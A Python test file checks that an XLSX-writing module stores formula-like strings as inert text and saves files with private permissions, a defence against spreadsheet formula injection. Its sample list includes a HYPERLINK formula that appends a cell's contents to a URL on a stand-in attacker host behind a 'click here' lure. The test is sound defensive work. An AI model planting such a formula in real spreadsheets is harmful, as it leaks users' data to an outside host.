"""Text that looks like a formula stays text in every XLSX we write."""

from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook, load_workbook

from hudang.forms import sheets

NASTY = ["=HYPERLINK(\"http://evil.example/?\"&B4,\"点此\")", "+8613912345678", "-2+3", "@SUM(A1:A2)", "=1+1"]


def test_a_saved_workbook_reads_back_every_value_as_the_same_string(tmp_path: Path) -> None:
    wb = Workbook()
    wb.active.append(NASTY)
    wb.active.append([12.5, 3])
    path = sheets.save(wb, tmp_path / "x.xlsx", private=True)
    cells = list(load_workbook(path).active.iter_rows(values_only=False))
    assert [c.value for c in cells[0]] == NASTY
    assert {c.data_type for c in cells[0]} == {"s"}
    assert [c.value for c in cells[1]][:2] == [12.5, 3]  # numbers we computed stay numbers
    assert path.stat().st_mode & 0o077 == 0


def test_write_only_text_cells_are_text(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([sheets.text_cell(ws, v) for v in NASTY])
    wb.save(tmp_path / "y.xlsx")
    [row] = load_workbook(tmp_path / "y.xlsx").active.iter_rows()
    assert [c.value for c in row] == NASTY and {c.data_type for c in row} == {"s"}
